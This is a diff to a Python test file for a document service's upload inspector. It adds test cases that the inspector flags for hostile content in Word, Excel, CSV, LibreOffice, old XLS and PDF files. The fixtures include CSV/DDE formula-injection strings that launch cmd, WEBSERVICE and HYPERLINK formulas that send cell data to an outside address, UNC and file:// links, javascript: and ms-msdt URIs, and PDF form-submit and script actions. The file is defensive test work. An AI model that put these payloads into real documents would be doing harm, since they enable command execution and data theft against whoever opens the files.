@@ -9,17 +9,20 @@ from __future__ import annotations
 import io
 import json
 import re
+import struct
 from functools import cache
 from pathlib import Path
 from typing import Any
 
 import openpyxl
+import pikepdf
 import pytest
 from openpyxl.formatting.rule import Rule
 from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 
 from docgen.errors import DocgenError, TemplateFaulty, UploadRefused
+from docgen.files.active import CODES
 from docgen.files.formulas import reaches_out
 from docgen.renderers.docx import compile as compile_word
 from docgen.renderers.xlsx import compile as compile_excel
@@ -30,6 +33,7 @@ from tests.commands import docgen
 from tests.hostile import RELATION, archive, edited, parts, with_part
 from tests.service import Team
 from tests.sheet_files import CONTRACT, TICKET_HEADER, converted_rows, taken, ticket, workbook
+from tests.test_batches_sheets import opened, previewed
 
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
@@ -41,7 +45,8 @@ Told = list[tuple[str, str, str]]
 def told(wrong: DocgenError) -> Told:
     for one in wrong.each():
         assert all((one.message("zh"), one.message("en"), one.hint("zh"), one.hint("en")))
-        assert one.value in one.message("zh")
+        if one.code in CODES:  # other refusals say no more than their place
+            assert one.value in one.message("zh")
     return [(one.code, one.place, str(one.value)) for one in wrong.each()]
 
 
@@ -122,6 +127,12 @@ FETCHING = [
     r"RD &quot;C:\\other.docx&quot;",
     r"HYPERLINK &quot;file://server/share&quot;",
     r"QUOTE 68 68 69 65 85 84 79",
+    r"HYPERLINK \o &quot;tip&quot; &quot;file://server/x&quot;",
+    r"HYPERLINK \l &quot;file://server/x&quot;",
+    r"HYPERLINK \h &quot;https://example.com&quot; &quot;\\\\server\\x&quot;",
+    r"HYPERLINK \\\\server\share",
+    "HYPERLINK “file://server/x”",
+    r"HYPERLINK &quot;fil%65://server/x&quot;",
 ]
 
 
@@ -194,6 +205,7 @@ def test_honest_fields_pass() -> None:
         *("PAGE", "NUMPAGES", r"TOC \o &quot;1-3&quot; \h \z \u", r"PAGEREF _Toc1 \h", r"REF a \h"),
         *(r"SEQ 图 \* ARABIC", r"DATE \@ &quot;yyyy年M月d日&quot;", "STYLEREF 1", "= 1 + 2"),
         *(r"HYPERLINK &quot;https://example.com/a&quot;", r"HYPERLINK \l &quot;_Toc1&quot;"),
+        r"HYPERLINK &quot;https://a.example&quot; \o &quot;见 https://a.example&quot; \t _blank",
         *("QUOTE &quot;甲&quot;", "IF 1 = 1 a b", "FILENAME", "DOCPROPERTY a"),
     ]
     inner = "".join(field(*cut(text)) + simple(text) for text in honest)
@@ -205,11 +217,14 @@ def test_honest_fields_pass() -> None:
     inspect("a.docx", document(only_attached), purpose="attachment")
 
 
-def related(data: bytes, owner: str, kind: str, target: str, *, external: bool = True) -> bytes:
+def related(
+    data: bytes, owner: str, kind: str, target: str, *, external: bool | str = True
+) -> bytes:
     """The package with one more relationship of a part, rId99."""
     folder, _, file = owner.rpartition("/")
     name = f"{folder}/_rels/{file}.rels"
-    mode = ' TargetMode="External"' if external else ""
+    given = external if isinstance(external, str) else "External"
+    mode = f' TargetMode="{given}"' if external else ""
     one = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'
     end = b"</Relationships>"
     empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
@@ -234,11 +249,14 @@ LINKED = [
     ("hyperlink", r"\\server\share", True, "remote_content"),
     ("hyperlink", "javascript:alert(1)", True, "remote_content"),
     ("hyperlink", "ms-msdt:/id", True, "remote_content"),
+    ("hyperlink", "%5c%5cserver%5cshare", True, "remote_content"),
+    ("hyperlink", "[//server/share/b.xlsx]a", True, "remote_content"),
+    ("image", "http://192.0.2.1/y.png", " External", "remote_content"),
 ]
 
 
 @pytest.mark.parametrize(("kind", "target", "external", "code"), LINKED)
-def test_relations_to_the_outside(kind: str, target: str, external: bool, code: str) -> None:
+def test_relations_to_the_outside(kind: str, target: str, external: bool | str, code: str) -> None:
     """Told at the paragraph that uses it, and of the part where none does."""
     blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
     used = run(f'<w:drawing>{blip} xmlns:r="{RELATION}" r:link="rId99"/></w:drawing>')
@@ -274,6 +292,58 @@ def test_what_needs_no_relation() -> None:
     assert both("a.docx", merged) == [("data_connection", "word/settings.xml", "mailMerge")]
     chunk = with_part(hostile.document(), "word/webextensions/webextension1.xml", b"<x/>")
     assert both("a.docx", chunk)[0][0] == "remote_content"
+
+
+OFFICE = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
+IN_WORD = {
+    "a picture's origin": (
+        f'<v:imagedata {VML} {OFFICE} o:href="http://192.0.2.1/x"/>',
+        "remote_content",
+    ),
+    "a link's place": ('<w:hyperlink w:anchor="file://server/x"/>', "remote_content"),
+    "a link's other place": (r'<w:hyperlink w:docLocation="\\server\x"/>', "remote_content"),
+    "a page that is played": (
+        '<p:webVideoPr xmlns:p="http://schemas.microsoft.com/x" embeddedHtml="&lt;iframe/>"/>',
+        "remote_content",
+    ),
+    "a drawing's picture": (
+        '<s:image xmlns:s="http://www.w3.org/2000/svg" href="http://192.0.2.1/x"/>',
+        "remote_content",
+    ),
+    "a drawing's script": ('<s:script xmlns:s="http://www.w3.org/2000/svg"/>', "macros"),
+    "keys": (
+        '<n:macro xmlns:n="http://schemas.microsoft.com/office/word/2006/wordml"/>',
+        "macros",
+    ),
+    "buttons": (
+        '<u:customUI xmlns:u="http://schemas.microsoft.com/office/2009/07/customui"/>',
+        "macros",
+    ),
+    "a schema": (
+        (
+            '<l:schema xmlns:l="http://schemas.openxmlformats.org/schemaLibrary/2006/main"'
+            ' l:manifestLocation="http://192.0.2.1/x"/>'
+        ),
+        "remote_content",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", IN_WORD)
+def test_other_elements_that_fetch_or_start_something(name: str) -> None:
+    inner, code = IN_WORD[name]
+    assert [one[:2] for one in both("a.docx", document(inner))] == [(code, HERE)]
+
+
+def test_what_relative_links_begin_with() -> None:
+    space = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
+    for base, passes in (("https://example.com/", True), (r"\\server\share", False)):
+        part = f'<Properties xmlns="{space}"><HyperlinkBase>{base}</HyperlinkBase></Properties>'
+        data = with_part(hostile.document(), "docProps/app.xml", part.encode())
+        if passes:
+            inspect("a.docx", data, purpose="attachment")
+        else:
+            assert both("a.docx", data) == [("remote_content", "docProps/app.xml", base)]
 
 
 def test_a_document_inside_of_another_file_is_named_with_it() -> None:
@@ -326,6 +396,14 @@ OUT = [
     'HYPERLINK("http://192.0.2.1/?"&A2,"x")',
     'HYPERLINK("file://server/share","x")',
     'IF(A2="x",HYPERLINK("\\\\server\\share"))',
+    'HYPERLINK("#[\\\\server\\b.xlsx]S!A1")',
+    'HYPERLINK("java\tscript:x")',
+    '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://192.0.2.1"))',
+    "INDIRECT(\"'\\\\server\\[b.xlsx]S'!A1\")",
+    "[1]S:T!A1",
+    '_xlfn.STOCKHISTORY("MSFT",1)',
+    '_xlfn.TRANSLATE(A1,"en")',
+    "_xlfn._xlws.PY(0,1)",
 ]
 HONEST = [
     "SUM(B1:B9)",
@@ -339,6 +417,8 @@ HONEST = [
     '"[1]Sheet1!A1"',
     'HYPERLINK("#\'表\'!A1","目录")',
     "LOG10(B1)+RECALL1",
+    'INDIRECT("Table1[已用]")',
+    "[0]!名称",
     "{1,2;3,4}",
 ]
 ONLY_ATTACHED = [
@@ -385,6 +465,157 @@ def test_a_name_that_is_a_macro() -> None:
     data = sheet(edit=lambda book: book.defined_names.update(a=DefinedName("a", attr_text="表!A1")))
     data = edited(data, "xl/workbook.xml", b'definedName name="a"', b'definedName name="a" xlm="1"')
     assert both("a.xlsx", data) == [("macros", "xl/workbook.xml", "a")]
+
+
+X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
+IN_SHEET = {
+    "a scale": (
+        (
+            '<conditionalFormatting sqref="A1"><cfRule type="colorScale"><colorScale>'
+            '<cfvo type="formula" val="RTD(1)"/></colorScale></cfRule></conditionalFormatting>'
+        ),
+        "active_formula",
+    ),
+    "a control": (f'<x:formControlPr xmlns:x="{X14}" fmlaMacro="[1]!X"/>', "active_formula"),
+    "a shape": ('<d:sp xmlns:d="urn:x/spreadsheetDrawing" macro="[1]!X"/>', "active_formula"),
+    "a button": (
+        '<e:FmlaMacro xmlns:e="urn:schemas-microsoft-com:office:excel">[1]!X</e:FmlaMacro>',
+        "active_formula",
+    ),
+    "a linked object": ('<oleObjects><oleObject link="cmd|/c!A"/></oleObjects>', "macros"),
+    "a page for others": (
+        "<webPublishItems><webPublishItem/></webPublishItems>",
+        "data_connection",
+    ),
+    "a connection": ("<connections><connection/></connections>", "data_connection"),
+    "a pivot's source": ('<cacheSource type="external"/>', "data_connection"),
+    "a place": (
+        '<hyperlinks><hyperlink ref="A1" location="file://server/x"/></hyperlinks>',
+        "remote_content",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", IN_SHEET)
+def test_other_elements_of_a_sheet(name: str) -> None:
+    inner, code = IN_SHEET[name]
+    data = edited(sheet("1+1"), "xl/worksheets/sheet1.xml", b"</worksheet>", b"%b</worksheet>")
+    data = edited(data, "xl/worksheets/sheet1.xml", b"%b", inner.encode())
+    assert {one for one, _, _ in attached("a.xlsx", data)} == {code}
+
+
+def test_own_macros_and_pivots_pass() -> None:
+    inner = f'<x:formControlPr xmlns:x="{X14}" fmlaMacro="[0]!X" fmlaLink="$A$1"/>'
+    inner += '<d:sp xmlns:d="urn:x/spreadsheetDrawing" macro=""/><cacheSource type="worksheet"/>'
+    end = b"</worksheet>"
+    data = edited(sheet("1+1"), "xl/worksheets/sheet1.xml", end, inner.encode() + end)
+    inspect("a.xlsx", data, purpose="attachment")
+
+
+# ---------------------------------------------------------------- text that Excel opens
+
+CELLS = [
+    "=cmd|'/C calc'!A0",
+    "a,b\n1,+cmd|'/C calc'!A0",
+    "a;-2+3+cmd|' /C calc'!A0",
+    "\t@SUM(1+1)*cmd|' /C calc'!A0",
+    "\" =cmd|'/C a,b'!A0\"",
+    "＝cmd|'/C calc'!A0",
+    '1,"=WEBSERVICE(""http://192.0.2.1/"")"',
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
+    '=DDE("cmd","/C calc","x")',
+    "ID;P\nC;Y1;X1;Ecmd|x!A",
+]
+HONEST_TEXT = (
+    "-5,+8613800000000,@user,a|b!,=SUM(A1:A2)\n=== log ===\n- 项目|注!\n-,warn|disk!\n"
+    '"=HYPERLINK(""https://example.com/a"",""x"")"\n'
+)
+
+
+def test_cells_of_text_that_reach_out() -> None:
+    for text in CELLS:
+        for data in (text.encode(), text.encode("utf-16"), text.encode("utf-8-sig")):
+            [(code, place, _)] = attached("a.csv", data)
+            assert code in ("active_formula", "upload_kind_refused"), text
+            [(code, inside, _)] = attached("a.zip", archive({"b.csv": data}))
+            assert inside.startswith("b.csv"), (code, place)
+        inspect("a.txt", text.encode(), purpose="attachment")  # opened as text
+    [(_, place, value)] = attached("a.csv", CELLS[1].encode())
+    assert (place, value) == ("行 2 (line 2)", "cmd|'/C calc'!A0")
+    inspect("a.csv", HONEST_TEXT.encode(), purpose="attachment")
+    inspect("a.csv", HONEST_TEXT.encode("gb18030"), purpose="attachment")
+
+
+def test_text_in_the_disguise_of_office() -> None:
+    for name in ("x.doc", "x.rtf", "x.ppt", "x.iqy", "x.slk", "x.settingcontent-ms"):
+        assert attached("a.zip", archive({name: b"MIME-Version: 1.0\r\n"}))
+    assert attached("a.txt", b"{\\rtf1 x}")[0][0] == "upload_kind_refused"
+
+
+# ---------------------------------------------------------------- PDF
+
+
+def linking(kind: str, **more: Any) -> Any:
+    def edit(made: pikepdf.Pdf) -> None:
+        made.pages[0].A = made.make_indirect(hostile.action(kind, **more))
+
+    return edit
+
+
+def opening(first: Any) -> Any:
+    return lambda made: setattr(made.Root, "OpenAction", first)
+
+
+def streaming(**more: Any) -> Any:
+    return lambda made: setattr(
+        made.Root, "X", made.make_indirect(pikepdf.Stream(made, b"", **more))
+    )
+
+
+GO = {"D": "x"}
+IN_PDF = {
+    "a form that is sent": linking("SubmitForm", F="http://192.0.2.1"),
+    "a share": linking("GoToR", F=r"\\server\x.pdf"),
+    "a file": linking("URI", URI="file://server/x"),
+    "a script": linking("URI", URI="javascript:x"),
+    "a thread": linking("Thread", F=r"\\server\x.pdf"),
+    "what all links begin with": lambda made: setattr(
+        made.Root, "URI", pikepdf.Dictionary(Base="file://server/")
+    ),
+    "what comes next": opening(
+        hostile.action("GoTo", **GO, Next=hostile.action("URI", URI="http://192.0.2.1"))
+    ),
+    "what comes after": opening(
+        hostile.action("GoTo", Next=pikepdf.Array([hostile.action("Named"), hostile.action("URI")]))
+    ),
+    "data elsewhere": streaming(F="x.bin"),
+    "a page elsewhere": streaming(Ref=pikepdf.Dictionary(F="x.pdf")),
+    "media by address": streaming(D=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="http://192.0.2.1")),
+}
+
+
+@pytest.mark.parametrize("name", IN_PDF)
+def test_a_pdf_that_reaches_out(name: str) -> None:
+    assert [one for one, _, _ in attached("a.pdf", hostile.pdf(IN_PDF[name]))] == ["pdf_active"]
+
+
+def test_files_in_a_pdf_are_judged_as_if_alone() -> None:
+    script = hostile.pdf(linking("JavaScript", JS="x"))
+    for name, data, code in (
+        ("x.docx", document(field("DDE a b")), "active_field"),
+        ("x.pdf", script, "pdf_active"),
+        ("x.zip", archive({"y.pdf": script}), "pdf_active"),
+        ("x.doc", hostile.OLE, "upload_kind_refused"),
+    ):
+        [(found, place, _)] = attached("a.pdf", hostile.attaching(name, data))
+        assert found == code
+        assert place.startswith(name)
+    inner = hostile.attaching("x.json", b"{}")
+    for honest in (hostile.pdf(linking("URI", URI="https://example.com")), inner):
+        inspect("a.pdf", hostile.attaching("x.pdf", honest), purpose="attachment")
+    for _ in range(3):
+        inner = hostile.attaching("x.pdf", inner)
+    assert attached("a.pdf", inner)[0][0] == "zip_nested"
 
 
 def test_a_link_in_a_cell_is_named_with_it() -> None:
@@ -520,6 +751,61 @@ def test_a_spreadsheet_is_read_for_its_values(tmp_path: Path) -> None:
     assert converted_rows(result) == 2
     assert result.notes == ["macros_ignored", "external_links_ignored"]
     assert sorted((one.code, one.place) for one in result.ignored) == sorted(IGNORED)
+
+
+ODS = b"""<table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c"/>
+</table:dde-link>"""
+
+
+def bad_ods(path: Path) -> Path:
+    """A workbook of LibreOffice with a DDE link, a macro, a query, a picture and a formula."""
+    data = (Path(__file__).parent / "spreadsheets/mixed.ods").read_bytes()
+    text = parts(data)["content.xml"]
+    formula = b'<table:table-cell table:formula="of:=webservice(&quot;http://x&quot;)" '
+    text = text.replace(b"<table:table-cell ", formula, 1)
+    more = ODS + b'<draw:image xlink:href="http://192.0.2.1/x"/>'
+    more += b'<script:event-listener xlink:href="vnd.sun.star.script:x"/>'
+    more += b'<table:database-source-sql table:database-name="x"/>'
+    text = text.replace(b"</office:spreadsheet>", more + b"</office:spreadsheet>")
+    assert ODS in text
+    assert formula in text
+    data = with_part(data, "content.xml", text)
+    path.write_bytes(with_part(data, "Scripts/python/x.py", b"x"))
+    return path
+
+
+def bad_xls(path: Path) -> Path:
+    """A workbook of old Excel, in which the name of its writer became a link by DDE."""
+    data = (Path(__file__).parent / "spreadsheets/mixed.xls").read_bytes()
+    writer, link = struct.pack("<2H", 0x005C, 112), struct.pack("<2H", 0x01AE, 112)  # 2.4.349
+    at = data.index(writer)
+    body = struct.pack("<2H", 0, 6) + b"\0cmd\x03/c"
+    path.write_bytes(data[:at] + link + body.ljust(112, b"\0") + data[at + 4 + 112 :])
+    return path
+
+
+def test_what_is_left_alone_in_files_of_other_kinds(tmp_path: Path) -> None:
+    result = taken(bad_ods(tmp_path / "a.ods"), tmp_path / "out")
+    assert "macros_ignored" in result.notes
+    found = sorted((one.code, one.value) for one in result.ignored)
+    assert found == [
+        ("active_formula", 'webservice("http://x")'),
+        ("data_connection", ""),
+        ("macros", "cmd /c"),
+        ("macros", "vnd.sun.star.script:x"),
+        ("remote_content", "http://192.0.2.1/x"),
+    ]
+    result = taken(bad_xls(tmp_path / "a.xls"), tmp_path / "out2")
+    assert [(one.code, one.value) for one in result.ignored] == [("macros", "cmd|/c")]
+    assert converted_rows(result)
+
+
+def test_what_was_left_alone_is_told_by_the_api(office: Team, tmp_path: Path) -> None:
+    contract_id = opened(office)
+    _, report = previewed(office, bad_tickets(tmp_path / "a.xlsx"), contract_id=contract_id)
+    told = sorted((one["code"], one["place"]) for one in report["ignored"])
+    assert told == sorted(IGNORED)
+    assert all(one["file"] == "a.xlsx" and one["message"]["en"] for one in report["ignored"])
 
 
 def test_what_was_left_alone_is_told_by_the_command_line(tmp_path: Path) -> None:
